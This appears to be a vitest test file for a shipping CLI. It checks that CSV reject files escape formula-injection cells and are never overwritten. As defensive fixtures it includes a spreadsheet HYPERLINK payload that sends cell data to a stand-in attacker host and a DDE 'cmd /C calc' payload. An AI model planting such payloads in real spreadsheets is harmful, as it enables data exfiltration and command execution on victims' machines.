/**
 * Reject files as a user meets them (in process): cells that would run as formulas neutralised,
 * read back exactly when the fixed file is imported again; never written over a file that exists;
 * ending with a newline.
 */
import { parse } from 'csv-parse/sync';
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page, Shipment } from '../../src/domain/schemas.js';
import { tempDir, type CliResult } from '../helpers/cli.js';
import { HEADER, csvLine, rowCells, shipmentsCsv } from '../helpers/csv.js';
import { makeReadOnly } from '../helpers/faults.js';
import { runInProcess } from '../helpers/inProcess.js';

let work: { dir: string; cleanup: () => Promise<void> };
let case_ = 0;
beforeAll(async () => {
  work = await tempDir('shipper-rejects-cli-');
});
afterAll(() => work.cleanup());

function caseDir(): { dir: string; cli: (args: string[]) => Promise<CliResult> } {
  const dir = join(work.dir, `case-${++case_}`);
  return { dir, cli: (args) => runInProcess(['--store', join(dir, 'store'), ...args]) };
}

async function shipments(cli: (args: string[]) => Promise<CliResult>): Promise<Shipment[]> {
  const result = await cli(['shipment', 'list', '--json', '--limit', '500']);
  expect(result.code, result.stderr).toBe(0);
  return (JSON.parse(result.stdout) as Page<Shipment>).items;
}

describe('formula injection in a reject file', () => {
  it('no cell of the reject file starts a formula, and the fixed file imports exactly what the user wrote', async () => {
    const { dir, cli } = caseDir();
    await mkdir(dir, { recursive: true });
    const file = join(dir, 'orders.csv');
    const hostile = rowCells('=HYPERLINK("http://evil.example/?"&A1,"Invoice")', true, { weight: '-5', desc: "+SUM(1+1)*cmd|'/C calc'!A0", pkg: '@crates', nmfc: '-161030' });
    hostile[6] = '=2+5'; // consigneeName
    const good = rowCells('OK-1', true);
    await writeFile(file, [csvLine(HEADER), csvLine(good), csvLine(hostile)].join('\r\n') + '\r\n');

    const first = await cli(['import', file, '--skip-invalid']);
    expect(first.code).toBe(1);
    expect(first.stderr).toMatch(/line 3, column poundsWeight \(orderComponents\[0\]\.poundsWeight\): poundsWeight must be at least 1 lb \(got "-5"\)/);
    const rejects = join(dir, 'orders.rejected.csv');
    const text = await readFile(rejects, 'utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Invoice"")"`);
    const rows = parse(text, { relax_column_count: true }) as string[][];
    expect(rows).toHaveLength(2);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
    expect(rows[1]!.slice(0, 1)).toEqual([`'=HYPERLINK("http://evil.example/?"&A1,"Invoice")`]);
    expect(rows[1]![HEADER.indexOf('poundsWeight')]).toBe("'-5");

    // Imported again as it is, the same value is refused with the same words: it read back as -5.
    const again = await cli(['import', rejects, '--dry-run']);
    expect(again.code).toBe(1);
    expect(again.stderr).toMatch(/line 2, column poundsWeight \(orderComponents\[0\]\.poundsWeight\): poundsWeight must be at least 1 lb \(got "-5"\)/);

    // The user fixes the weight in the reject file; everything else comes back as written.
    await writeFile(rejects, text.replace(`"'-5"`, '500'));
    const fixed = await cli(['import', rejects]);
    expect(fixed.code, fixed.stderr).toBe(0);
    const booked = (await shipments(cli)).find((shipment) => shipment.refNumber !== 'OK-1')!;
    expect(booked.refNumber).toBe('=HYPERLINK("http://evil.example/?"&A1,"Invoice")');
    expect(booked.deliveryAddress.name).toBe('=2+5');
    expect(booked.orderComponents[0]).toMatchObject({ poundsWeight: 500, description: "+SUM(1+1)*cmd|'/C calc'!A0", packagingType: '@crates', nmfcCode: '-161030' });
  });
});

describe('a reject file never replaces a file', () => {
  it('the default name moves on to orders.rejected-2.csv, keeping the one being fixed, and says so', async () => {
    const { dir, cli } = caseDir();
    await mkdir(dir, { recursive: true });
    const file = join(dir, 'orders.csv');
    await writeFile(file, `${shipmentsCsv(1, 1, 'A').trimEnd()}\n${csvLine(rowCells('BAD-1', true, { pallets: '0' }))}\n`);
    await writeFile(join(dir, 'orders.rejected.csv'), 'being fixed by a person\n');
    const result = await cli(['import', file, '--skip-invalid']);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(
      `warning: [REJECTS_FILE_KEPT] ${join(dir, 'orders.rejected.csv')} exists and was kept; the rejected rows are in ${join(dir, 'orders.rejected-2.csv')}\n`,
    );
    expect(result.stderr).toContain(`fix them in ${join(dir, 'orders.rejected-2.csv')} and import that file`);
    expect(await readFile(join(dir, 'orders.rejected.csv'), 'utf8')).toBe('being fixed by a person\n');
    const written = await readFile(join(dir, 'orders.rejected-2.csv'), 'utf8');
    expect(written).toMatch(/^refNumber,.*,reason\r\nBAD-1,.*palletCount must be at least 1\r\n$/s);
    expect((await readdir(dir)).sort()).toEqual(['orders.csv', 'orders.rejected-2.csv', 'orders.rejected.csv', 'store']);
  });

  it('a --rejects file that exists is refused before anything is booked (exit 2)', async () => {
    const { dir, cli } = caseDir();
    await mkdir(dir, { recursive: true });
    const file = join(dir, 'orders.csv');
    await writeFile(file, shipmentsCsv(2, 1, 'A'));
    const rejects = join(dir, 'mine.csv');
    await writeFile(rejects, 'keep');
    const result = await cli(['import', file, '--skip-invalid', '--rejects', rejects]);
    expect(result.code).toBe(2);
    expect(result.stderr).toBe(`shipper: --rejects ${rejects} exists; shipper never replaces a reject file (remove it or name another file)\n`);
    expect(await readFile(rejects, 'utf8')).toBe('keep');
    expect(await shipments(cli)).toEqual([]);
  });
});

describe('a reject file that cannot be written', () => {
  it('--rejects in a read-only directory: exit 5 before anything is booked', async () => {
    const { dir, cli } = caseDir();
    await mkdir(join(dir, 'locked'), { recursive: true });
    const file = join(dir, 'orders.csv');
    await writeFile(file, `${shipmentsCsv(2, 1, 'A').trimEnd()}\n${csvLine(rowCells('BAD-1', true, { pallets: '0' }))}\n`);
    const readOnly = await makeReadOnly(join(dir, 'locked'));
    try {
      const result = await cli(['import', file, '--skip-invalid', '--rejects', join(dir, 'locked', 'r.csv')]);
      expect(result.code).toBe(5);
      expect(result.stderr).toBe(
        `shipper: cannot write the reject file ${join(dir, 'locked', 'r.csv')}: ${readOnly.kind === 'bind-mount' ? 'the file system is read-only' : 'permission denied'}\n`,
      );
    } finally {
      await readOnly.restore();
    }
    expect(await shipments(cli)).toEqual([]);
  });

  it('the default one beside a read-only input: the import stops at the first rejected row, exit 5 naming the file', async () => {
    const { dir, cli } = caseDir();
    const inputs = join(dir, 'inputs');
    await mkdir(inputs, { recursive: true });
    const file = join(inputs, 'orders.csv');
    await writeFile(file, `${shipmentsCsv(2, 1, 'A').trimEnd()}\n${csvLine(rowCells('BAD-1', true, { pallets: '0' }))}\n`);
    const readOnly = await makeReadOnly(inputs);
    try {
      const result = await cli(['import', file, '--skip-invalid']);
      expect(result.code).toBe(5);
      expect(result.stderr).toContain(
        `cannot write ${join(inputs, 'orders.rejected.csv')}: ${readOnly.kind === 'bind-mount' ? 'the file system is read-only' : 'permission denied'}`,
      );
      expect(result.stderr).not.toMatch(/\n\s+at /);
    } finally {
      await readOnly.restore();
    }
    expect(await readdir(inputs)).toEqual(['orders.csv']);
  });
});
